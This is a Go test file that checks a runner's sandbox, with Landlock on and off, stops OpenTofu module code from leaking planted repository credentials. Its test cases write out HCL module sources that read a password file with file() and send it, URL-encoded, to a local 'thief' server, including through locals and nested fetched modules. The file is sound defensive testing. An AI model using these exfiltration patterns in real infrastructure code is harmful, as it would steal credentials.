//go:build runpod

package executor

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"magosproject.io/services/runner/internal/executor/gittest"
	"magosproject.io/services/runner/internal/runspec"
)

// thief is a server that remembers what it was asked for.
func thief(t *testing.T) (url string, asked func() string) {
	t.Helper()
	var mutex sync.Mutex
	var all strings.Builder
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mutex.Lock()
		defer mutex.Unlock()
		fmt.Fprintln(&all, r.URL)
		http.NotFound(w, r)
	}))
	t.Cleanup(server.Close)
	return server.URL, func() string {
		mutex.Lock()
		defer mutex.Unlock()
		return all.String()
	}
}

func reversed(text string) string {
	var out strings.Builder
	for i := len(text) - 1; i >= 0; i-- {
		out.WriteByte(text[i])
	}
	return out.String()
}

// OpenTofu evaluates the source of a module with every function when keeper has it fetch modules.
func TestModuleCodeCannotReadRepositoryCredentialsInKeeper(t *testing.T) {
	const password = "planted-password-of-a-repository"
	for _, landlock := range []bool{true, false} {
		for name, code := range map[string]func(secret, url string, remote gittest.Repo) string{
			"in a URL": func(secret, url string, _ gittest.Repo) string {
				return fmt.Sprintf("module \"m\" {\n  source = \"%s/${urlencode(file(%q))}.zip\"\n}\n", url, secret)
			},
			"through a local": func(secret, url string, _ gittest.Repo) string {
				return fmt.Sprintf("locals {\n  x = file(%q)\n}\nmodule \"m\" {\n  source = \"%s/${urlencode(local.x)}.zip\"\n}\n", secret, url)
			},
			"in a message": func(secret, _ string, _ gittest.Repo) string {
				return fmt.Sprintf("module \"m\" {\n  source = \"./${strrev(file(%q))}\"\n}\n", secret)
			},
			"in a module that is fetched": func(secret, url string, remote gittest.Repo) string {
				inner := remote.Commit(map[string]string{"main.tf": fmt.Sprintf("module \"m\" {\n  source = \"%s/${urlencode(file(%q))}.zip\"\n}\n", url, secret)})
				return fmt.Sprintf("module \"outer\" {\n  source = \"git::%s?ref=%s\"\n}\n", remote.URL, inner)
			},
		} {
			t.Run(fmt.Sprintf("%s, landlock %v", name, landlock), func(t *testing.T) {
				w := newWorkspace(t)
				url, asked := thief(t)
				remote := gittest.Serve(t, "git commit -q --allow-empty -m first")
				secret := filepath.Join(w.root, "pod-plan-1", "repositories", "x", "password")
				p := w.newPlan(w.repo.Commit(map[string]string{"main.tf": w.backend() + code(secret, url, remote)}), nil)
				p.secret("x", map[string]string{"repoURL": "https://git.example.com", "username": "u", "password": password})
				env := ""
				if !landlock {
					env = envNoLandlock + "=1"
				}
				result := p.planWith(env)
				record, err := runspec.ParseRecord(result.keeper.message, p.in.RunID)
				if err != nil || record.Outcome != runspec.OutcomeFailed {
					t.Errorf("want a failure: %v\n%s", err, result)
				}
				if !landlock && !strings.Contains(record.Message, "no Landlock") {
					t.Errorf("the record says %q", record.Message)
				}
				for _, leaked := range []string{password, reversed(password)} {
					if strings.Contains(asked()+result.String(), leaked) {
						t.Errorf("the password got out: %s\n%s", asked(), result)
					}
				}
			})
		}
	}
}

// Without Landlock what needs no evaluation is planned all the same.
func TestPlainModulesArePlannedWithoutLandlock(t *testing.T) {
	w := newWorkspace(t)
	p := w.newPlan(w.repo.Commit(map[string]string{
		"main.tf":   w.backend() + "module \"m\" {\n  source = \"./m\"\n}\n",
		"m/main.tf": "output \"o\" {\n  value = file(\"${path.module}/main.tf\")\n}\n",
	}), nil)
	must(t, os.MkdirAll(filepath.Join(p.dir, "repositories"), 0o755))
	if result := p.planWith(envNoLandlock + "=1"); result.keeper.code != runspec.ExitOK {
		t.Errorf("%s", result)
	}
}
